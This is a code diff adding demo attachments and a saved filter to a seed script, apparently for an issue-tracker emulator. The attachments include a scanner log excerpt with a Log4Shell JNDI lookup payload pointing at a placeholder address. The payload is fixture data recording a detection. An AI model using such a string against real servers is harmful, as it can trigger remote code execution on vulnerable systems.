@@ -230,6 +230,44 @@ def seed_demo(state):
             resolution=res, resolutiondate=updated if res else None)
         comments_for(i, (0, 1, 0, 3)[n % 4], created, updated)
 
+    _demo_attachments(state, sec)
+    # the demo user's favourite filter (the --token-file PAT is alice's)
+    state.add_filter("My open SEC tickets",
+                     "project = SEC AND assignee = currentUser() AND resolution = Unresolved "
+                     "ORDER BY priority DESC, key ASC", "alice", favourite_of=["alice"],
+                     description="Security findings assigned to me that are not resolved.")
+
+
+# A tiny PNG-like binary: the PNG signature, an IHDR chunk of a 1x1 image and bytes that are
+# no valid image data (the emulator never decodes images)
+DEMO_PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01"
+            b"\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + bytes(range(256)) * 2)
+
+
+def _demo_attachments(state, sec):
+    """A scan report and a screenshot on SEC-1, a log excerpt on SEC-2; created between the
+    ticket's creation and its last update (so `updated` stays as seeded). No draw from the
+    seed's random generator: the rest of the demo data does not move."""
+    i1, i2 = state.issues["SEC-1"], state.issues["SEC-2"]
+
+    def at(issue, k):
+        return issue.created + (issue.updated - issue.created) * k // 4
+    report = ("Nessus scan report\n"
+              "Host: web-01\n"
+              "Plugin 171079: OpenSSL 3.0.x < 3.0.8 Multiple Vulnerabilities\n"
+              "Installed version: 3.0.7\n"
+              "Fixed version: 3.0.8\n"
+              "CVE: CVE-2023-0286 (X.400 address type confusion in X.509 GeneralName)\n")
+    state.add_attachment(i1, "scan-report.txt", report.encode("utf-8"), "text/plain",
+                         "nucleus-bot", created=at(i1, 1), touch=False)
+    state.add_attachment(i1, "screenshot.png", DEMO_PNG, "image/png", "alice",
+                         created=at(i1, 2), touch=False)
+    log = ("2026-10-03 09:14:03,112 WARN  [scanner] JNDI lookup pattern seen in User-Agent\n"
+           "2026-10-03 09:14:03,118 WARN  [scanner] ${jndi:ldap://203.0.113.7:1389/a}\n"
+           "2026-10-03 09:14:04,002 INFO  [scanner] log4j-core 2.14.1 found in app.jar\n")
+    state.add_attachment(i2, "log4shell excerpt.log", log.encode("utf-8"), "text/plain",
+                         "jdoe", created=at(i2, 2), touch=False)
+
 
 _PKGS = ["OpenSSL 3.0.%d", "nginx 1.2%d.1", "OpenSSH 8.%dp1", "curl 7.8%d.0", "glibc 2.3%d",
          "PostgreSQL 13.%d", "Redis 6.2.%d", "sudo 1.9.%dp1", "BIND 9.16.%d", "Apache 2.4.4%d"]
